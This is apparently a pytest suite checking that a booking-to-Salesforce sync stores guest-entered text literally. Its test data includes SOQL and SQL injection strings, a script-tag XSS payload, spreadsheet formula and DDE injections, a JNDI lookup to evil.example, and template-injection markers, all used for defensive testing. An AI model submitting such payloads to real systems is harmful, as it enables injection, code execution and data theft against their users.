"""What guests type is text: written literally, whatever it looks like to a CRM, a database or a browser."""

from __future__ import annotations

from datetime import timedelta
from importlib import import_module

import pytest

from faults.lives import DAY, Life, guest, lives, scheduled
from faults.oracle import differences, expected
from faults.scene import Scene

TEXTS = {
    "a reference": "@{w0.id}",
    "more references": "x@{r0.records[0].Id} @{w1[0].id} @{",
    "SOQL": "' OR Name LIKE '%",
    "wildcards and escapes": r"100%_\' \n \\",
    "a query": "SELECT Id FROM User LIMIT 1 --",
    "HTML": "<script>alert(1)</script>&amp;<b>",
    "a formula": '=HYPERLINK("http://evil.example";"click")',
    "another formula": "+1+cmd|' /C calc'!A0",
    "right to left": "\u202eevil\u202c \u05e9\u05dc\u05d5\u05dd \u200f\u0645\u0631\u062d\u0628\u0627",
    "emoji": "\U0001f600 \U0001f469\u200d\U0001f469\u200d\U0001f467 \U0001d518 e\u0301",
    "quotes": 'O\'Neil "Q" \u201equoted\u201c \u00abx\u00bb',
    "a merge field": "{!$User.Id} ${jndi:ldap://evil.example/a} {{7*7}} %7B",
    "a word": "null",
}


def told_as(text: str, booking_id: str) -> Life:
    """A booking with the text in every field that people type. As a name it is one word: names are split."""
    word = "".join(text.replace(",", "").split())
    person = guest(
        f"Ada {word}", email=f"{booking_id.lower()}@guest.example", company=text, note=text, phone=text[:40]
    )
    return Life(
        booking_id,
        person=person,
        subject=text,
        virtual_conferencing={"join_url": ""},
        location_description=text,
        start=DAY,
    )


@pytest.mark.fault("F33")
def test_F33_texts_of_guests_are_written_literally(scene: Scene) -> None:
    """References, SOQL, HTML, formulas, marks, emoji in every field of a batch: all written as typed."""
    these = [told_as(text, f"TEXT-{n:02d}") for n, text in enumerate(TEXTS.values())]
    scene.tell(*scheduled([*lives(3), *these]))
    scene.until_settled()
    scene.assert_in_step()
    assert scene.problems() == []
    scene.tell(*(life.rescheduled(DAY + timedelta(days=1), life.data["subject"]) for life in these))
    scene.until_settled()
    scene.assert_in_step()


@pytest.mark.fault("F33")
def test_F33_one_booking_at_a_time(scene: Scene) -> None:
    """The same, each booking alone: other calls carry it then, for the first write and for a change."""
    for n, text in enumerate(TEXTS.values()):
        life = told_as(text, f"TEXT-{n:02d}")
        scene.tell(life.scheduled())
        scene.drain()
        scene.tell(life.canceled(text))
        scene.drain()
        scene.assert_in_step()


@pytest.mark.fault("F33")
def test_F33_ids_and_addresses(scene: Scene) -> None:
    """Ids and addresses that mean something to an address bar, a query or a batch are found again as they are."""
    ids = ["B/K NG?#1", "B'K%2F", "BK@{w0.id}", "BK\\'", "B\u00fcch-\U0001f600", "BK,1", "bk.json"]
    these = [
        Life(booking_id, person=guest(f"Ada Id{n}", email=f"o'neil+%_{n}@guest.example"))
        for n, booking_id in enumerate(ids)
    ]
    scene.tell(*scheduled(these))
    scene.until_settled()
    scene.assert_in_step()
    scene.rows("UPDATE sync_item SET link = '{}' RETURNING id")  # as after a lost answer: all by their ids
    scene.tell(*(life.canceled("Ill") for life in these))
    scene.until_settled()
    scene.assert_in_step()
    assert scene.problems() == []


@pytest.mark.fault("F33")
@pytest.mark.parametrize("field", ["name", "note", "company"])
def test_F33_a_nul_is_refused_by_name(scene: Scene, field: str) -> None:
    """NUL is no text: the event is kept aside with the reason, those beside it are written."""
    bad, good = Life("BKNG-NUL", person=guest("Ada Aalto")), lives(2)
    bad.person[field] = "a\0b"
    events = scheduled([good[0], bad, good[1]])
    done = scene.tell(*events)
    assert (done.accepted, [p.position for p in done.problems]) == (2, [2])
    assert "NUL" in done.problems[0].reason
    scene.until_settled()
    assert differences(scene.fake.crm(), expected([events[0], events[2]])) == []


@pytest.mark.fault("F33")
@pytest.mark.parametrize("name", ["a reference", "more references"])
def test_F33_can_fail(scene: Scene, monkeypatch: pytest.MonkeyPatch, name: str) -> None:
    """A writer that sends references inside a Composite is hijacked or refused, and the comparison says so."""
    writer = import_module("instep.crm.salesforce.apply")  # the package has a function of that name
    monkeypatch.setattr(writer, "mentions_reference", lambda write: False)
    life = told_as(TEXTS[name], "TEXT-1")
    scene.tell(life.scheduled())
    scene.drain()
    with pytest.raises(AssertionError):
        scene.assert_in_step()
